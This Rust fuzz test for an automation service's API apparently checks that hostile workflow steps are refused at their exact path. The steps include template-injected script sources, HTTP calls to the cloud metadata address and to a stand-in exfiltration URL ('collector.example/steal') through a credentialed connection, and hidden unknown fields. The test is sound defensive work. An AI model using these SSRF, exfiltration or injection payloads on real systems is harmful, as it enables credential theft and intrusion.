//! Hostile definitions: trees made from a seed, with a hostile step placed
//! at the bottom of a random chain of child lists (`then`, `else`, `do`,
//! `branches`, `escalations`, `compensate`, each reached many times), saved
//! through `POST /api/automations` as a tenant's client would. Each case
//! knows its answer, and the answer must name the hostile step's own path:
//!
//! - a `script` whose source holds a template (a webhook body would write
//!   JavaScript into it): 400 at `….config.source`;
//! - a field no step has (`thn`, `flow`): 400 at `….<field>`;
//! - an `http` step through a connection with credentials that calls
//!   another origin: 400 at `….config.url`;
//! - a `flow/log` line that renders the sender's body (`{{_body.x}}`): a
//!   template where templates belong, saved (201).
//!
//! Like `fuzz`, case `i` is made from `seed + i`, so a failure names the
//! one case that reproduces it; `TOK_FUZZ_DEFINITIONS` sets how many are
//! sent (300 by default) and `TOK_FUZZ_SEED` the seed.

use axum::http::StatusCode;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde_json::{Value, json};
use tok_core::definition::Step;
use tok_core::walk::ChildKind;

use crate::fuzz::env_u64;
use crate::helpers::{TestApp, backend_tests};

backend_tests!(
    crate::helpers::run_with_script_checks;
    hostile_steps_in_every_child_list_are_refused_at_their_path,
);

const DEFAULT_CASES: u64 = 300;

const DEFAULT_SEED: u64 = 0xdef_f022;

/// Child lists a hostile step is nested under, at most.
const MAX_DEPTH: usize = 4;

/// What a case hides at the bottom of its tree.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
enum Hostile {
    TemplatedScript,
    UnknownField,
    OffOriginCall,
    RenderedLog,
}

impl Hostile {
    const ALL: [Hostile; 4] = [
        Hostile::TemplatedScript,
        Hostile::UnknownField,
        Hostile::OffOriginCall,
        Hostile::RenderedLog,
    ];

    /// The step as JSON, and the field of it the refusal must name (none:
    /// the step is saved).
    fn step(self, rng: &mut StdRng) -> (Value, Option<&'static str>) {
        match self {
            Hostile::TemplatedScript => {
                let source = [
                    "function main(i) { return {x: '{{_body.x}}'} }",
                    "function main(i) { {{ _body.code }} }",
                    "// {{_body}}\nfunction main(i) { return i }",
                ][rng.random_range(0..3)];
                let step = Step::new("evil", "script", json!({ "source": source }));
                (to_json(&step), Some("config.source"))
            }
            Hostile::UnknownField => {
                let field = ["thn", "flow", "steps", "elseSteps"][rng.random_range(0..4)];
                let mut step = to_json(&Step::new("evil", "flow/log", json!({"message": "m"})));
                step[field] = json!([{ "id": "hidden", "type": "flow/log",
                                       "config": {"message": "{{_body.x}}"} }]);
                (step, Some(field))
            }
            Hostile::OffOriginCall => {
                let url = [
                    "http://169.254.169.254/latest/meta-data/",
                    "https://collector.example/steal",
                    "http://api.shop.example:8443/orders",
                ][rng.random_range(0..3)];
                let step = Step::new(
                    "evil",
                    "http",
                    json!({ "connection": "shop", "method": "GET", "url": url }),
                );
                (to_json(&step), Some("config.url"))
            }
            Hostile::RenderedLog => {
                let step = Step::new("evil", "flow/log", json!({"message": "{{_body.x}}"}));
                (to_json(&step), None)
            }
        }
    }
}

fn to_json(step: &Step) -> Value {
    serde_json::to_value(step).expect("a step serializes")
}

/// A definition whose steps hold `hostile` under a random chain of child
/// lists, each holder with a sibling before it now and then, and the path
/// the hostile step is at.
fn case(rng: &mut StdRng, hostile: Value) -> (Value, String) {
    let depth = rng.random_range(1..=MAX_DEPTH);
    // Below a `compensate`, only conditions and loops: a compensation runs
    // as one chain, so it holds no parallel step, no wait with escalations
    // and no compensation of its own (the definition would be refused for
    // that instead).
    let mut kinds: Vec<ChildKind> = Vec::new();
    for _ in 0..depth {
        let choices: &[ChildKind] = if kinds.contains(&ChildKind::Compensate) {
            &[ChildKind::Then, ChildKind::Else, ChildKind::Do]
        } else {
            &ChildKind::ALL
        };
        kinds.push(choices[rng.random_range(0..choices.len())]);
    }
    // Built from the bottom: the hostile step is the last of its list.
    let mut inner = vec![hostile];
    let mut path_below = String::new();
    for (level, kind) in kinds.iter().enumerate().rev() {
        let mut holder = to_json(&kind.holder(&format!("h{level}")));
        let mut list: Vec<Value> = Vec::new();
        if rng.random_bool(0.4) {
            list.push(to_json(&Step::new(
                format!("s{level}"),
                "flow/log",
                json!({"message": "before"}),
            )));
        }
        list.append(&mut inner);
        let index = list.len() - 1;
        let label = match kind {
            ChildKind::Branch => {
                // The list is the second branch when an empty one is first.
                let first_empty = rng.random_bool(0.3);
                let mut branches = Vec::new();
                if first_empty {
                    branches.push(json!([]));
                }
                branches.push(Value::Array(list));
                holder["branches"] = Value::Array(branches);
                format!("branches.{}", usize::from(first_empty))
            }
            ChildKind::Escalation => {
                holder["escalations"] = json!([{ "after": "1h", "steps": list }]);
                "escalations.0.steps".to_owned()
            }
            other => {
                holder[other.key()] = Value::Array(list);
                other.key().to_owned()
            }
        };
        path_below = format!(".{label}.{index}{path_below}");
        inner = vec![holder];
    }
    let first = to_json(&Step::new("first", "flow/log", json!({"message": "hi"})));
    let definition = json!({
        "name": "hostile",
        "trigger": { "kind": "manual" },
        "steps": [first, inner.pop().expect("the outermost holder")],
    });
    (definition, format!("steps.1{path_below}"))
}

async fn hostile_steps_in_every_child_list_are_refused_at_their_path(app: &TestApp) {
    let cases = env_u64("TOK_FUZZ_DEFINITIONS", DEFAULT_CASES);
    let seed = env_u64("TOK_FUZZ_SEED", DEFAULT_SEED);
    let tenant = app.create_tenant("Mallory").await;
    app.post(
        &tenant.key,
        "/api/connections",
        &json!({ "name": "shop", "service": "http", "base_url": "https://api.shop.example",
                 "credentials": { "bearer": "SECRET" } }),
    )
    .await
    .expect(StatusCode::CREATED);

    let mut failures = Vec::new();
    let mut created = 0;
    let mut seen = std::collections::HashSet::new();
    for i in 0..cases {
        let mut rng = StdRng::seed_from_u64(seed.wrapping_add(i));
        let hostile = Hostile::ALL[rng.random_range(0..Hostile::ALL.len())];
        let (step, field) = hostile.step(&mut rng);
        let (definition, at) = case(&mut rng, step);
        let top = at.split('.').nth(2).unwrap_or_default().to_owned();
        seen.insert((hostile, top));
        let reply = app.post(&tenant.key, "/api/automations", &definition).await;
        if reply.status == StatusCode::CREATED {
            created += 1;
        }
        let wrong = match field {
            None if reply.status == StatusCode::CREATED => None,
            None => Some(format!("expected 201, got {}", reply.status)),
            Some(_) if reply.status != StatusCode::BAD_REQUEST => {
                Some(format!("expected 400, got {}", reply.status))
            }
            Some(field) => {
                let path = format!("{at}.{field}");
                let named = reply.body["error"]["code"] == "invalid_definition"
                    && reply.body["error"]["errors"]
                        .as_array()
                        .is_some_and(|errors| errors.iter().any(|e| e["path"] == path.as_str()));
                (!named).then(|| format!("expected invalid_definition at {path}"))
            }
        };
        if let Some(wrong) = wrong {
            failures.push(format!(
                "case {i} (TOK_FUZZ_SEED={} TOK_FUZZ_DEFINITIONS=1), {hostile:?} at {at}: {wrong}; \
                 answer {}; definition {definition}",
                seed.wrapping_add(i),
                reply.body
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {cases} cases answered wrongly; the first:\n{}",
        failures.len(),
        failures
            .iter()
            .take(10)
            .cloned()
            .collect::<Vec<_>>()
            .join("\n")
    );
    if cases >= DEFAULT_CASES {
        // Every hostile step was met under every kind of outermost list.
        for hostile in Hostile::ALL {
            for kind in ChildKind::ALL {
                assert!(
                    seen.iter()
                        .any(|(h, top)| *h == hostile && top == kind.key()),
                    "{hostile:?} was never placed under `{}`",
                    kind.key()
                );
            }
        }
    }
    // What was refused was not stored: the tenant has exactly the
    // automations answered 201.
    let mut stored = 0;
    let mut cursor = String::new();
    loop {
        let page = app
            .get(&tenant.key, &format!("/api/automations?limit=500{cursor}"))
            .await
            .expect(StatusCode::OK);
        stored += page["items"].as_array().map_or(0, Vec::len);
        match page["next_cursor"].as_str() {
            Some(next) => cursor = format!("&cursor={next}"),
            None => break,
        }
    }
    assert_eq!(stored, created, "only the cases answered 201 were stored");
}
